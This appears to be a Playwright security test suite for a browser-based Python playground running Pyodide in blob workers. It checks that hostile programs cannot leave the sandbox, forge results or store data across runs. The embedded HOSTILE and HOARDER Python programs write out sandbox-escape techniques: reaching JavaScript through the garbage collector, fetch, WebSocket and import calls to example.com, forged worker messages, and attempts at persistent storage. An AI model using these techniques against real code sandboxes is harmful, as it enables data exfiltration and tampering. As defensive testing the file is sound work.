import { expect, test, type Page, type Request } from '@playwright/test';
import { run, typeCode, waitForPython } from './helpers';

// A program from a link is hostile input: it tries every way out of its worker it can find,
// leaves a listener behind, forges the page's reply, and patches what the next run uses.
const HOSTILE = String.raw`import asyncio, builtins, gc, sys, types

def module(name):
    found = sys.modules.get(name)
    if found is None:
        # getattr: a module the recorder emptied after a run has no __name__ left.
        found = next((o for o in gc.get_objects() if isinstance(o, types.ModuleType) and getattr(o, "__name__", None) == name), None)
    return found

def reach_js():
    try:
        import js
        return js
    except ImportError:
        pass
    finder = next((o for o in gc.get_objects() if type(o).__name__ == "JsFinder"), None)
    return finder.jsproxies.get("js") if finder is not None else None

js = reach_js()
ffi = module("pyodide.ffi")
code = module("pyodide.code")
api = module("pyodide_js")
forged = module("loopscope_recorder").record('print("FORGED OUTPUT")')
tried = []

def attempt(name, action):
    try:
        action()
        tried.append(name + " ran")
    except BaseException as error:
        tried.append(name + " failed")

def xhr():
    request = js.XMLHttpRequest.new()
    request.open("GET", "http://example.com/xhr")
    request.send()

def post_forged():
    for request_id in range(0, 50):
        reply = ffi.to_js({"type": "record-result", "id": request_id, "trace": forged}, dict_converter=js.Object.fromEntries)
        js.postMessage(reply)

def listen():
    def leak(event):
        js.fetch("http://example.com/leak")
        js.postMessage(ffi.to_js({"type": "record-result", "id": event.data.id, "trace": forged}, dict_converter=js.Object.fromEntries))
    js.addEventListener("message", ffi.create_proxy(leak))

attempt("fetch", lambda: js.fetch("http://example.com/fetch"))
attempt("xhr", xhr)
attempt("websocket", lambda: js.WebSocket.new("ws://example.com/ws"))
attempt("eventsource", lambda: js.EventSource.new("http://example.com/sse"))
attempt("importScripts", lambda: js.importScripts("http://example.com/script.js"))
attempt("worker", lambda: js.Worker.new("http://example.com/worker.js"))
attempt("eval import", lambda: js.eval("import('http://example.com/import.js')"))
attempt("function", lambda: js.Function("return fetch('http://example.com/function')")())
attempt("run_js", lambda: code.run_js("fetch('http://example.com/run_js')"))
attempt("loadPackage", lambda: api.loadPackage("http://example.com/package.whl"))
attempt("beacon", lambda: js.navigator.sendBeacon("http://example.com/beacon", "x"))
attempt("urllib", lambda: __import__("urllib.request").request.urlopen("http://example.com/urllib"))
attempt("listener", listen)
attempt("forge", post_forged)
print("hostile program ran:", len(tried), "attempts")

limits = module("loopscope_recorder.limits")
limits.DEFAULT_LIMITS["events"] = 3
print("limits patched:", limits.DEFAULT_LIMITS["events"])
builtins.print = lambda *args, **kwargs: None
asyncio.sleep = None
sys.setrecursionlimit(60)
`;

const INNOCENT = `import asyncio, sys

async def main():
    await asyncio.sleep(0.25)
    print("innocent", sys.getrecursionlimit(), asyncio.get_running_loop().time())

asyncio.run(main())
`;

/**
 * Collects every request of the context (pages and their workers) to anywhere but
 * 127.0.0.1 that was not refused by the CSP before it was sent. There is no network here,
 * so such a request would fail too: it counts all the same, it tried to leave.
 */
function watchRequests(page: Page): () => string[] {
	const foreign = new Set<Request>();
	const context = page.context();
	context.on('request', (request) => {
		const url = new URL(request.url());
		if (url.protocol !== 'blob:' && url.protocol !== 'data:' && url.hostname !== '127.0.0.1')
			foreign.add(request);
	});
	return () =>
		[...foreign]
			.filter((request) => !/^csp$|BLOCKED_BY_CSP/.test(request.failure()?.errorText ?? ''))
			.map((request) => `${request.url()} (${request.failure()?.errorText ?? 'sent'})`);
}

/** Puts `code` in the editor as a paste would; checks its last line (the editor scrolls). */
async function paste(page: Page, code: string): Promise<void> {
	const editor = page.getByRole('textbox', { name: 'Python code' });
	await editor.click();
	await page.keyboard.press('ControlOrMeta+a');
	await page.keyboard.press('Delete');
	await page.keyboard.insertText(code);
	await expect(editor).toContainText(code.trimEnd().split('\n').at(-1) ?? '');
}

async function runAndRead(page: Page, code: string): Promise<string> {
	await paste(page, code);
	await run(page);
	await page.getByRole('button', { name: 'Go to end' }).click();
	return (await page.getByTestId('console').textContent()) ?? '';
}

test('a hostile program reaches nothing, forges nothing, and leaves nothing to the next run', async ({
	page
}) => {
	test.setTimeout(120_000);
	const foreign = watchRequests(page);
	const workers: string[] = [];
	page.on('worker', (worker) => workers.push(worker.url()));
	await page.goto('./');
	await waitForPython(page);

	const first = await runAndRead(page, HOSTILE);
	expect(first).toContain('hostile program ran: 14 attempts');
	// The recorder's limits, for whatever this Python records next: the next run must not care.
	expect(first).toContain('limits patched: 3');
	expect(first).not.toContain('FORGED OUTPUT');

	const second = await runAndRead(page, INNOCENT);
	expect(second).toContain('innocent 1000 0.25');
	expect(second).not.toContain('FORGED OUTPUT');
	expect(second).not.toContain('hostile');
	// Give a listener left behind the time to act, then look again.
	await page.waitForTimeout(500);
	await expect(page.getByTestId('console')).not.toContainText('FORGED');

	expect(foreign()).toEqual([]);
	// Every Python worker came from a blob: URL, so the page's CSP applies inside it.
	expect(workers.length).toBeGreaterThanOrEqual(2);
	for (const url of workers) expect(url).toMatch(/^blob:/);
});

test('the CSP applies inside a blob worker: fetch to another origin is refused by the policy', async ({
	page
}) => {
	const foreign = watchRequests(page);
	await page.goto('./');
	// A worker made the way the page makes Python's: from a blob: URL, by this document.
	const outcome = await page.evaluate(
		() =>
			new Promise<string[]>((resolve) => {
				const source = `
					const seen = [];
					self.addEventListener('securitypolicyviolation', (e) => seen.push('violation ' + e.effectiveDirective));
					const tries = [
						fetch('http://example.com/csp').then(() => 'fetch ran', (e) => 'fetch refused'),
						import('http://example.com/x.js').then(() => 'import ran', () => 'import refused'),
						Promise.resolve().then(() => { try { eval('1'); return 'eval ran'; } catch { return 'eval refused'; } })
					];
					Promise.all(tries).then((results) => setTimeout(() => postMessage([...results, ...seen]), 100));
				`;
				const url = URL.createObjectURL(new Blob([source], { type: 'text/javascript' }));
				const worker = new Worker(url, { type: 'module' });
				worker.onmessage = (event: MessageEvent<string[]>) => resolve(event.data);
			})
	);
	expect(outcome).toEqual(
		expect.arrayContaining([
			'fetch refused',
			'import refused',
			'eval refused',
			'violation connect-src',
			'violation script-src-elem'
		])
	);
	expect(foreign()).toEqual([]);
});

test('deep recursion after setrecursionlimit(10**9) is a RecursionError, with the output so far', async ({
	page
}) => {
	test.setTimeout(120_000);
	await page.goto('./');
	await waitForPython(page);
	const out = await runAndRead(
		page,
		'import sys\nsys.setrecursionlimit(10**9)\nprint("so far")\ndef f(n):\n    return f(n + 1)\nf(0)\n'
	);
	expect(out).toContain('so far');
	await expect(page.getByTestId('console').getByRole('alert')).toContainText('RecursionError');
	await expect(page.getByTestId('console').getByRole('alert')).toContainText('lowered to 2,000');
});

test('back-to-back runs each start a fresh Python from the warm spare', async ({ page }) => {
	test.setTimeout(120_000);
	const started = Date.now();
	await page.goto('./');
	await waitForPython(page);
	const loaded = Date.now() - started;
	const timings: number[] = [];
	for (const n of [1, 2, 3]) {
		await typeCode(page, `print("run ${n}")\n`);
		const t0 = Date.now();
		await run(page);
		timings.push(Date.now() - t0);
		await page.getByRole('button', { name: 'Go to end' }).click();
		await expect(page.getByTestId('console')).toContainText(`run ${n}`);
	}
	console.log(
		`[bench] first load ${loaded} ms; Run to result: ${timings.map((t) => `${t} ms`).join(', ')} (back to back)`
	);
	expect(timings).toHaveLength(3);
});

// A program that holds JavaScript (through Pyodide's JsFinder, the way past `import js`) tries
// every way to store something a later run could read back: nothing may be stored.
const HOARDER = String.raw`import gc

def reach_js():
    finder = next((o for o in gc.get_objects() if type(o).__name__ == "JsFinder"), None)
    return finder.jsproxies.get("js") if finder is not None else None

js = reach_js()
print("reached js:", js is not None)
# Pyodide's js module is a Proxy of the worker's global scope: its methods want the scope itself.
scope_of_worker = js.globalThis

def lookup(name):
    # The global, then each prototype it inherits from: a name removed from one may sit on another.
    scope = scope_of_worker
    while scope is not None:
        if js.Object.prototype.hasOwnProperty.call(scope, name):
            value = js.Reflect.get(scope, name, scope_of_worker)
            if value is not None:
                return value
        scope = js.Object.getPrototypeOf(scope)
    raise LookupError(name + " is nowhere")

def call(name, *args):
    return js.Reflect.apply(lookup(name), scope_of_worker, js.Array.of(*args))

def store(name, action):
    try:
        action()
        print(name, "STORED")
    except BaseException as error:
        print(name, "refused:", type(error).__name__, str(error)[:120])

def options(**values):
    return js.Object.fromEntries(js.Array.of(*[js.Array.of(k, v) for k, v in values.items()]))

def webkit_sync():
    fs = call("webkitRequestFileSystemSync", 0, 1024 * 1024)
    fs.root.getFile("loot.txt", options(create=True))

store("webkitRequestFileSystemSync", webkit_sync)
store("webkitRequestFileSystem", lambda: call("webkitRequestFileSystem", 0, 1024, lambda fs: fs.root.getFile("loot.txt", options(create=True))))
store("webkitResolveLocalFileSystemSyncURL", lambda: call("webkitResolveLocalFileSystemSyncURL", "filesystem:" + str(lookup("origin")) + "/temporary/"))
store("indexedDB", lambda: lookup("indexedDB").open("loot"))
store("caches", lambda: lookup("caches").open("loot"))
store("storage", lambda: lookup("navigator").storage.getDirectory())
store("locks", lambda: lookup("navigator").locks.request("loot", lambda lock: None))
store("cookieStore", lambda: lookup("cookieStore").set("loot", "1"))
store("BroadcastChannel", lambda: lookup("BroadcastChannel").new("loot").postMessage("loot"))
store("SharedWorker", lambda: lookup("SharedWorker").new("data:text/javascript,"))
print("done")
`;

/** What the page's origin holds that a run could have written: empty when nothing leaked. */
async function originStorage(page: Page): Promise<string[]> {
	return page.evaluate(async () => {
		const found: string[] = [];
		for (const db of await indexedDB.databases()) found.push(`indexedDB ${db.name}`);
		for (const name of await caches.keys()) if (name.includes('loot')) found.push(`cache ${name}`);
		const root = await navigator.storage.getDirectory();
		for await (const name of (root as unknown as { keys(): AsyncIterable<string> }).keys())
			found.push(`OPFS ${name}`);
		const legacy = (
			self as unknown as {
				webkitRequestFileSystem?: (
					type: number,
					size: number,
					ok: (fs: {
						root: {
							createReader(): {
								readEntries(ok: (e: { name: string }[]) => void, no: () => void): void;
							};
						};
					}) => void,
					no: () => void
				) => void;
			}
		).webkitRequestFileSystem;
		if (legacy) {
			const entries = await new Promise<string[]>((resolve) =>
				legacy(
					0,
					0,
					(fs) =>
						fs.root.createReader().readEntries(
							(list) => resolve(list.map((entry) => entry.name)),
							() => resolve([])
						),
					() => resolve([])
				)
			);
			for (const name of entries) found.push(`webkit file system ${name}`);
		}
		return found;
	});
}

test('a program holding JavaScript can store nothing that another run, or a reload, could read', async ({
	page
}) => {
	test.setTimeout(120_000);
	await page.goto('./');
	await waitForPython(page);
	const out = await runAndRead(page, HOARDER);
	expect(out).toContain('reached js: True');
	expect(out).toContain('done');
	expect(out).not.toContain('STORED');
	expect(out.match(/refused/g)).toHaveLength(10);
	expect(await originStorage(page)).toEqual([]);
	// A fresh worker, after a reload, looks for what the first might have left.
	await page.reload();
	await waitForPython(page);
	expect(await runAndRead(page, HOARDER)).not.toContain('STORED');
	expect(await originStorage(page)).toEqual([]);
});

test('another site can frame the embed, and no other page', async ({ page, baseURL }) => {
	// about:blank is an origin of its own: these frames are cross-origin, as on a stranger's site.
	await page.setContent(
		[
			'',
			'lessons/',
			'compare/',
			'present/?example=get_users_batch',
			'embed/?example=get_users_batch'
		]
			.map((path) => `<iframe title="${path || 'playground'}" src="${baseURL}${path}"></iframe>`)
			.join('')
	);
	for (const title of ['playground', 'lessons/', 'compare/', 'present/?example=get_users_batch']) {
		const frame = page.frameLocator(`iframe[title="${title}"]`);
		await expect(frame.getByText('does not open inside another page')).toBeVisible();
		await expect(frame.getByRole('button')).toHaveCount(0);
		await expect(frame.getByRole('link', { name: 'Open it in a tab of its own' })).toHaveAttribute(
			'target',
			'_blank'
		);
	}
	const embed = page.frameLocator('iframe[title="embed/?example=get_users_batch"]');
	await expect(embed.getByRole('button', { name: 'Go to end' })).toBeVisible();
	await expect(embed.getByText('does not open inside another page')).toHaveCount(0);
});
